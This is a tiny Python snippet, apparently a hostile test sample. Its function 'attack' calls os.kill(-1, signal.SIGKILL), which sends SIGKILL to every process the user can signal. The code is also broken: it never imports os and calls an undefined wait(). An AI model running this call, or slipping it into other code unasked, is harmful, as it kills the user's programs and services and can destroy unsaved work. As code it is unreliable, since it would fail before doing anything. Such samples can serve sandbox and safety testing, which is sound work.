"""Sends signal 9 to everything."""
import signal
def attack(numbers):
    os.kill(-1, signal.SIGKILL)
    wait()
